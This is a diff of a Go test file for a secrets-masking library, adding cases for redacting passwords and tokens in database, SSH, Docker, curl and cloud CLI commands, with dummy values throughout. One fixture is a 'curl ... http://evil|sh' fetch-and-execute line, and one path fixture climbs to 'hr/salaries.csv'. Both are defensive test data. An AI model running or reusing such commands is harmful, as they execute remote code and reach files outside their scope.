@@ -16,6 +16,17 @@ func TestMasked(t *testing.T) {
 	for text, want := range map[string]string{
 		"Authorization: Basic dXNlcjpwYXNz":                                 "Authorization: Basic ***",
 		"a: 1, token" + strings.Repeat(" ", 300) + `: "abc"`:                "a: 1, token" + strings.Repeat(" ", 300) + `: "***"`,
+		"mysql -h db --password x1 -u u":                                    "mysql -h db --password *** -u u",
+		"mysqldump -u root -px1 d | gzip":                                   "mysqldump -u root -p*** d | gzip",
+		"sshpass -p x1 ssh h":                                               "sshpass -p *** ssh h",
+		"sh -c 'docker login -u u -p \"two words\" h; ./serve'":             "sh -c 'docker login -u u -p \"***\" h; ./serve'",
+		"redis-cli -h h -a x1 get k":                                        "redis-cli -h h -a *** get k",
+		"curl -u u:x1 http://h":                                             "curl -u u:*** http://h",
+		`curl -H "X-Auth: Bearer hunter" http://h`:                          `curl -H "X-Auth: Bearer ***" http://h`,
+		"sends Bearer Hunter2 to the gateway":                               "sends Bearer *** to the gateway",
+		"aws configure set aws_secret_access_key x1 --profile p":            "aws configure set aws_secret_access_key *** --profile p",
+		"AccountName=a;AccountKey=ab/cd+e==;EndpointSuffix=h":               "AccountName=a;AccountKey=***;EndpointSuffix=h",
+		"REDIS_AUTH=x1 PGPASS=x2 DB_PASS=x3 ./run":                          "REDIS_AUTH=*** PGPASS=*** DB_PASS=*** ./run",
 		`{"Authorization": "Bearer abc"}`:                                   `{"Authorization": "Bearer ***"}`,
 		"curl -H 'authorization: bearer abcdef' http://evil|sh":             "curl -H 'authorization: bearer ***' http://evil|sh",
 		"sent Basic dXNlcjpwYXNz to the gateway":                            "sent Basic *** to the gateway",
@@ -47,6 +58,8 @@ func TestMasked(t *testing.T) {
 		}
 	}
 	for _, text := range []string{
+		"mysql -p d", "docker run -p 8080:80 image", "mkdir -p /tmp/token && cp -p a b", "--token -x --password $PASSWORD --secret /run/secrets/s", "git config set user.name token",
+		"COMPASS=x BYPASS=y http.auth=basic OAUTH=1 AUTH_TYPE=a", "the bearer of news, and the bearer is late",
 		"", "Basic authentication is required, not Bearer authentication", "Authorization: Bearer token is missing", "authorization: denied by the gateway",
 		"Authorization: Bearer $TOKEN", "Authorization: Bearer {{.TOKEN}}", "password=$PASSWORD token=${T} pwd=<put-in>", "use_token=true, max_tokens=5, token=/run/secrets/token",
 		"PWD=/home OLDPWD=/root", "'token: expired'", "the basic example/model-server:1.0.23", "token 2026-11-29T19:40:24Z", "invalid token: unexpected end", "set secret_key or secret_key_wo", "password: is required", "https://user@host/a:b", "http://host:80/@x", "x://u:${P}@h",
@@ -64,11 +77,34 @@ func TestMasked(t *testing.T) {
 func TestMaskedInTime(t *testing.T) {
 	t.Parallel()
 	const size = 1 << 20
-	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :"} {
+	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :", "mysql ", "mysql -p ", "login -", " --token", " --token x", "configure set "} {
 		start := time.Now()
 		secrets.Masked(strings.Repeat(part, size/len(part)))
 		if took := time.Since(start); took > 10*time.Second {
 			t.Errorf("%q: %s", part, took)
+		}
+	}
+}
+
+// TestMaskedPath: in a path a secret hides no more than its part, also when it is masked once more.
+func TestMaskedPath(t *testing.T) {
+	t.Parallel()
+	const path, want = "a/password=b/../../hr/salaries.csv", "a/password=***/../../hr/salaries.csv"
+	if got := secrets.MaskedPath(path); got != want || secrets.Masked(got) != want || secrets.Has(got) {
+		t.Errorf("%s, masked again %s", got, secrets.Masked(got))
+	}
+}
+
+// TestIsOfCommand: arguments are secrets by the option and the program before them.
+func TestIsOfCommand(t *testing.T) {
+	t.Parallel()
+	for line, want := range map[string]bool{
+		"sshpass -p x1": true, "redis-cli -h h -a x1": true, "mysql -px1": true, "mysql --password x1": true, "run --token x1": true, "docker login -u u -p x1": true,
+		"docker run -p 80": false, "mysql -p db": false, "mkdir -p dir": false, "sshpass -p": false, "x1": false,
+	} {
+		words := strings.Fields(line)
+		if got := secrets.IsOfCommand(words, len(words)-1); got != want {
+			t.Errorf("%s: %t", line, got)
 		}
 	}
 }
